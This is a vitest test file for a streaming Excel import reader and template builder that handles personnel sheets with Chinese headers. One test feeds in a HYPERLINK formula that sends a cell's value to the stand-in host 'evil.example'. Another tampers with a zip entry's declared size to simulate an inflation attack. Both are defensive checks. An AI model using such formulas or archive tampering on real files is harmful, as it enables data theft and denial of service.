import { describe, expect, it } from 'vitest'
import ExcelJS from 'exceljs'
import { DomainError } from '../http/errors.ts'
import { buildTemplate, readSheet, type SheetColumn } from './xlsx.ts'

const columns: SheetColumn[] = [
  { header: '姓名', key: 'name', required: true },
  { header: '身份证号', key: 'idNumber', required: true, text: true },
  { header: '备注', key: 'note' },
]

async function book(fill: (wb: ExcelJS.Workbook) => void): Promise<Buffer> {
  const wb = new ExcelJS.Workbook()
  fill(wb)
  return Buffer.from(await wb.xlsx.writeBuffer())
}

async function failure(p: Promise<unknown>): Promise<DomainError> {
  const err = await p.then(
    () => undefined,
    (e: unknown) => e,
  )
  expect(err).toBeInstanceOf(DomainError)
  return err as DomainError
}

describe('readSheet (streaming)', () => {
  it('reads the first visible sheet in tab order, whatever comes before it', async () => {
    const file = await book((wb) => {
      wb.addWorksheet('隐藏', { state: 'hidden' }).addRow(['姓名', '身份证号']).worksheet.addRow(['不该读到', '1'])
      const ws = wb.addWorksheet('数据')
      ws.addRow(['身份证号*', '姓名 *'])
      ws.addRow(['150999198001010011', '张三'])
      wb.addWorksheet('说明').addRow(['姓名', '身份证号'])
    })
    const sheet = await readSheet(file, columns)
    expect(sheet.rows).toEqual([{ row: 2, values: { name: '张三', idNumber: '150999198001010011', note: '' } }])
    expect(sheet.letters).toEqual({ name: 'B', idNumber: 'A' })
  })

  it('finds the header below a title, keeps Excel row numbers, skips blank rows and stops after 100 of them', async () => {
    const file = await book((wb) => {
      const ws = wb.addWorksheet('人员')
      ws.getCell('A1').value = '某某镇人员名单'
      ws.getRow(3).values = ['姓名', '身份证号', '备注']
      ws.getRow(4).values = [{ richText: [{ text: '李' }, { text: '四' }] }, '150999198001010011', 2]
      ws.getRow(7).values = ['王五', '150999198001010022', new Date(Date.UTC(2005, 6, 1))]
      ws.getRow(8).getCell(1).numFmt = '@' // formatted but empty: still blank
      ws.getRow(300).values = ['赵六', '150999198001010033']
    })
    const sheet = await readSheet(file, columns)
    expect(sheet.rows).toEqual([
      { row: 4, values: { name: '李四', idNumber: '150999198001010011', note: '2' } },
      { row: 7, values: { name: '王五', idNumber: '150999198001010022', note: '2005-07-01' } },
    ])
  })

  it('reports cells by row and column: numbers in text columns, error values, formulas with or without a result', async () => {
    const file = await book((wb) => {
      const ws = wb.addWorksheet('人员')
      ws.addRow(['姓名', '身份证号'])
      ws.addRow(['张三', 150999198001010000])
      ws.addRow([{ error: '#N/A' }, '150999198001010011'])
      ws.addRow([{ formula: 'A1' }, '150999198001010022'])
      ws.addRow([{ formula: 'HYPERLINK("http://evil.example/?d="&B6,"王五")', result: '王五' }, '150999198001010033'])
    })
    const err = await failure(readSheet(file, columns))
    expect(err.code).toBe('IMPORT_INVALID')
    const details = err.details as { row: number; column: string; message: string }[]
    expect(details.map((d) => [d.row, d.column])).toEqual([
      [2, 'B（身份证号）'],
      [3, 'A（姓名）'],
      [4, 'A（姓名）'],
      [5, 'A（姓名）'],
    ])
    expect(details[3]!.message).toContain('粘贴-数值')
    expect(details[0]!.message).toContain('设为“文本”')
  })

  it('names the missing header columns, and refuses files that are not a readable workbook', async () => {
    const noHeader = await book((wb) => wb.addWorksheet('人员').addRow(['姓名', '电话']))
    expect((await failure(readSheet(noHeader, columns))).message).toBe('表头缺少必填列：身份证号；请使用下载的模板')
    const onlyHidden = await book((wb) => wb.addWorksheet('人员', { state: 'veryHidden' }).addRow(['姓名', '身份证号']))
    expect((await failure(readSheet(onlyHidden, columns))).message).toBe('Excel 文件中没有可见的工作表')
    const empty = await book((wb) => wb.addWorksheet('人员').addRow(['姓名', '身份证号']))
    expect((await failure(readSheet(empty, columns))).message).toBe('文件中没有数据行')
    // A valid zip directory around a damaged sheet.
    const good = await book((wb) => wb.addWorksheet('人员').addRow(['姓名', '身份证号']))
    const broken = Buffer.from(good)
    const at = broken.indexOf('xl/worksheets/sheet1.xml')
    broken.fill(0xff, at + 40, at + 200)
    expect((await failure(readSheet(broken, columns))).message).toMatch(/无法读取|已损坏|没有可见/)
  })

  it('refuses an entry that inflates to more than its directory declares, before parsing it', async () => {
    const file = await book((wb) => {
      const ws = wb.addWorksheet('人员')
      ws.addRow(['姓名', '身份证号'])
      for (let i = 0; i < 200; i++) ws.addRow([`张${i}`, '150999198001010011'])
    })
    // The central directory entry of the sheet: signature, then its name at offset 46.
    const name = Buffer.from('xl/worksheets/sheet1.xml')
    let at = file.indexOf(name)
    while (at >= 0 && file.readUInt32LE(at - 46) !== 0x02014b50) at = file.indexOf(name, at + 1)
    expect(at).toBeGreaterThan(0)
    const bomb = Buffer.from(file)
    bomb.writeUInt32LE(bomb.readUInt32LE(at - 46 + 24) - 100, at - 46 + 24)
    expect((await failure(readSheet(bomb, columns))).message).toMatch(/已损坏/)
  })

  it('reads a filled-in template (data sheet first, hidden code list, notes sheet)', async () => {
    const template = await buildTemplate('人员', [...columns, { header: '民族', key: 'ethnicity', list: Array.from({ length: 30 }, (_, i) => `族${i}`) }], ['说明'])
    const wb = new ExcelJS.Workbook()
    await wb.xlsx.load(template as unknown as ArrayBuffer)
    wb.getWorksheet('人员')!.getRow(2).values = ['张三', '150999198001010011', '', '族3']
    const sheet = await readSheet(Buffer.from(await wb.xlsx.writeBuffer()), columns)
    expect(sheet.rows).toEqual([{ row: 2, values: { name: '张三', idNumber: '150999198001010011', note: '' } }])
  })
})
